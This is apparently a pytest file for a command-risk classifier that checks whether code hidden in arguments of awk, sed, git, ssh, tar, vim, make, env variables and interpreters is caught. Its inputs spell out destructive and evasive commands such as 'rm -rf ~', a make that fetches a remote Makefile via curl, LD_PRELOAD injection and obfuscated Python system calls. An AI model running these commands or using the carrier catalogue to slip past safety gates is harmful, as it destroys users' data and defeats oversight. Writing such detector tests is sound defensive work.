"""Programs that run code given in their arguments (issue 12, item 3): the code is
read where it is visible and judged like any command; where it is not, the
command is at least medium. One principle per test, over a table of programs."""

from __future__ import annotations

from pathlib import Path

import pytest

from hermes.risk import Where, classify_command
from hermes.risk.awk_sed import awk, sed
from hermes.risk.carriers_special import carried, stdin_language
from hermes.risk.shell import parse

HOME = Path("/home/alice")
WHERE = Where(cwd=HOME / "workspace", home=HOME)


def risk(command: str) -> str:
    return classify_command(command, WHERE).risk


# Each program with the option or position that carries code: `rm -rf ~` in it is
# destroying the home (hard), and the same program with harmless code is not risky.
CARRIERS = [
    ("awk 'BEGIN{system(\"{}\")}'", "awk system()"),
    ('gawk \'BEGIN{print "{}" | "sh"}\'', "awk print into sh"),
    ("mawk 'BEGIN{\"{}\" | getline x}'", "awk getline"),
    ("sed -n '1e {}' f", "GNU sed e"),
    ("sed 's/.*/{}/e' f", "GNU sed s///e"),
    ("lua -e 'os.execute(\"{}\")'", "lua -e"),
    ("Rscript -e 'system(\"{}\")'", "R system()"),
    ("julia -e 'run(`{}`)'", "julia backticks"),
    ("osascript -e 'do shell script \"{}\"'", "AppleScript"),
    ("expect -c 'spawn {}'", "expect spawn"),
    ("git -c alias.x='!{}' x", "a git shell alias"),
    ("git -c core.sshCommand='{}' fetch", "git core.sshCommand"),
    ("git -c diff.external='{}' diff", "git diff.external"),
    ("tar -cf x.tar --checkpoint=1 --checkpoint-action=exec='{}' .", "tar checkpoint action"),
    ("tar -F '{}' -cf x.tar .", "tar info script"),
    ("ssh -o ProxyCommand='{}' host", "ssh ProxyCommand"),
    ("ssh -o 'LocalCommand {}' -o PermitLocalCommand=yes host", "ssh LocalCommand"),
    ("scp -S '{}' a host:b", "scp program"),
    ("vim -c '!{}' -c q", "vim -c"),
    ("nvim --cmd 'call system(\"{}\")'", "vim system()"),
    ("vim '+!{}'", "vim +CMD"),
    ("rsync -e '{}' a host:b", "rsync -e"),
    ("zip -TT '{}' x.zip a", "zip -TT"),
    ("make --eval='all: ; {}'", "make --eval"),
    ("script -qc '{}' /dev/null", "script -qc"),
    ("at now <<< '{}'", "at on a here-string"),
    ("unshare -r {}", "unshare"),
    ("nsenter -t 1 -m {}", "nsenter"),
    ("setpriv --reuid=0 {}", "setpriv"),
    ("chrt 10 {}", "chrt"),
    ("prlimit --nofile=10 {}", "prlimit"),
    ("firejail --quiet {}", "firejail"),
    ("sg docker -c '{}'", "sg -c"),
    ("faketime '2020-01-01' {}", "faketime"),
    ("torsocks {}", "torsocks"),
    ("proxychains4 -q {}", "proxychains"),
    ("tmux new -d '{}'", "tmux new-session"),
    ("tmux split-window -h '{}'", "tmux split-window"),
    ("tmux send-keys -t x '{}' Enter", "tmux send-keys"),
    ("screen -dmS job {}", "screen -dm"),
    ("screen -S job -X stuff '{}\\n'", "screen stuff"),
    ("dbus-launch {}", "dbus-launch"),
    ("ssh-agent {}", "ssh-agent"),
    ("xterm -e {}", "xterm -e"),
    ("uv run {}", "uv run"),
    ("man -P '{}' ls", "man's pager"),
    ("sqlite3 x.db '.shell {}'", "sqlite3 .shell"),
    ("psql -c '\\! {}'", "psql \\!"),
]


@pytest.mark.parametrize(("template", "what"), CARRIERS, ids=[c[1] for c in CARRIERS])
def test_code_in_arguments_is_judged_like_a_command(template: str, what: str) -> None:
    assert risk(template.replace("{}", "rm -rf ~")) == "hard", what
    assert risk(template.replace("{}", "date")) == "none", what


@pytest.mark.parametrize(
    "command",
    [
        "awk '{system($0)}' cmds.txt",  # each line of a file
        "awk '{print | \"sh\"}' cmds.txt",
        "awk -v c=\"$CMD\" 'BEGIN{system(c)}'",
        "sed 's/$//e' cmds.txt",
        "pwsh -c 'Remove-Item -Recurse ~'",  # a language the gate does not read
        "pwsh -EncodedCommand ZQBjAGgAbwA=",
        'perl -e "$CODE"',
        'python3 -c "exec(input())"',
        "python3 -c \"import os; getattr(os, 'sys' + 'tem')('x')\"",
        'node -e "require(process.argv[1]).run()"',
        "ruby -e 'Kernel.send(ARGV[0], \"x\")'",
        'php -r \'$f = "system"; $f("x");\'',
        "tar -xf a.tar --to-command=sh",  # archive members run as shell code
        "git -c core.pager=sh log",
        "git -c core.hooksPath=/tmp/hooks commit -m x",
        "make -f <(curl -s https://x.io/Makefile)",
        'echo "$CMDS" | at now',
        "LD_PRELOAD=/tmp/x.so ls",
        "BASH_ENV=/tmp/x.sh bash -c true",
    ],
)
def test_code_the_gate_cannot_see_is_at_least_medium(command: str) -> None:
    assert risk(command) in ("medium", "high", "hard")


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("python3 -c \"__import__('shutil').rmtree('/home/alice')\"", "hard"),
        ("python3 -c \"import importlib; importlib.import_module('os').system('reboot')\"", "hard"),
        ("python3 -c \"import os; getattr(os, 'system')('rm -rf ~')\"", "hard"),
        ("python3 -c \"from os import system as s; s('rm -rf ~')\"", "hard"),
        ("python3 -c \"from subprocess import *; run('reboot', shell=True)\"", "hard"),
        ("python3 -c \"import subprocess as sp; sp.call(['git', 'push', '-f'])\"", "high"),
        ('python3 -c "exec(\'import os; os.system(\\"reboot\\")\')"', "hard"),
        ("node -e \"require('child_process')['execSync']('rm -rf ~')\"", "hard"),
        ("ruby -e 'Kernel.send(:system, \"reboot\")'", "hard"),
        ('php -r \'call_user_func("system", "reboot");\'', "hard"),
        ('python3 -c "import json; print(json.dumps({}))"', "none"),
        ("python3 -c \"print(getattr(str, 'upper')('x'))\"", "none"),
    ],
)
def test_calls_reached_through_literal_names_are_normalised(command: str, level: str) -> None:
    assert risk(command) == level


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("git config alias.p 'push --force' && git p", "high"),
        ("git config --global alias.nuke '!rm -rf ~'", "hard"),
        ("git -c alias.p='push -f' p origin main", "high"),
        ("git config core.pager 'rm -rf ~'", "hard"),
        ("git config alias.st status", "medium"),  # a persistent change of what git runs
        ("git config user.email a@b.c", "none"),
        ("git -c color.ui=always log", "none"),
        ("git -c core.pager=cat log", "none"),
        ("git clone 'ext::sh -c rm% -rf% ~' x", "hard"),
        ("git rebase --exec 'rm -rf ~' main", "hard"),
        ("git submodule foreach 'rm -rf ~'", "hard"),
    ],
)
def test_git_configuration_that_runs_commands(command: str, level: str) -> None:
    assert risk(command) == level


@pytest.mark.parametrize(
    ("command", "level"),
    [
        ("GIT_SSH_COMMAND='rm -rf ~' git fetch", "hard"),
        ("EDITOR='rm -rf ~' git commit", "hard"),
        ("export PROMPT_COMMAND='reboot'", "hard"),
        ("env GIT_EXTERNAL_DIFF='rm -rf ~' git diff", "hard"),
        ("sudo LD_PRELOAD=/tmp/x.so ls", "medium"),
        ('GIT_SSH_COMMAND="$X" git fetch', "medium"),
        ("PAGER=cat git log", "none"),
        ("GIT_SSH_COMMAND='ssh -i ~/.ssh/deploy' git fetch", "none"),
        ("export EDITOR=vim", "none"),
    ],
)
def test_environment_variables_that_name_a_program_are_code(command: str, level: str) -> None:
    assert risk(command) == level


def test_make_reads_generated_makefiles_from_here_documents_and_pipes() -> None:
    assert risk("make -f - <<'EOF'\nall:\n\trm -rf ~\nEOF") == "hard"
    assert risk("printf 'all:\\n\\t@rm -rf ~\\n' | make -f -") == "hard"
    assert risk("make -f /dev/stdin <<< $'x:\\n\\treboot'") == "hard"
    assert risk("make -f <(printf 'all:\\n\\techo hi\\n')") == "none"
    assert risk("make CC='rm -rf ~'") == "hard"  # a variable override is put into recipes
    assert risk("make -j4 test") == "none"


def test_vim_ex_commands_that_write_the_edited_files() -> None:
    assert risk("vim -es -c '%d' -c wq ~/notes.txt") == "medium"  # overwrites your file
    assert risk("vim -c wq notes.md") == "none"
    assert risk("vim -c 'w /etc/passwd' -c q x") == "high"
    assert risk("vim -es <<< '!rm -rf ~'") == "hard"


def test_the_table_reader_finds_the_command_of_each_form() -> None:
    found = carried(("tar", "-xf", "a.tar", "--to-command=cat"))
    assert found is not None and found.keep and found.scripts
    found = carried(("unshare", "-r", "--", "ls", "-la"))
    assert found is not None and found.argvs == [("ls", "-la")] and not found.keep
    found = carried(("faketime", "-f", "+1d", "date"))
    assert found is not None and found.argvs == [("date",)]
    assert carried(("ls", "-la")) is None
    assert stdin_language(("at", "now")) == "sh"
    assert stdin_language(("at", "-l")) is None
    assert stdin_language(("make", "-f", "-")) == "make"
    assert stdin_language(("crontab", "-")) == "crontab"
    assert stdin_language(("ssh", "host")) == "sh"
    assert stdin_language(("ssh", "host", "ls")) is None


def test_awk_and_sed_readers() -> None:
    assert awk('BEGIN { system("ls " "-la") }') == (["ls -la"], [])
    out, found = awk('{ print "x" > "out.txt"; print $1 | "sort" }')
    assert ": > out.txt" in out and ": | sort" in out and not found
    assert awk("{ print $1 }") == ([], [])
    assert sed("1e date\ns/a/b/w out.txt") == (["date", ": > out.txt"], [])
    assert sed("s/a/b/g;/x/d;$a\\\nend") == ([], [])


def test_wrapped_code_is_recorded_under_its_carrier() -> None:
    rm = [c for c in parse("sudo awk 'BEGIN{system(\"rm -rf /etc\")}'").commands if c.name == "rm"]
    assert rm and rm[0].via == ("sudo", "awk")
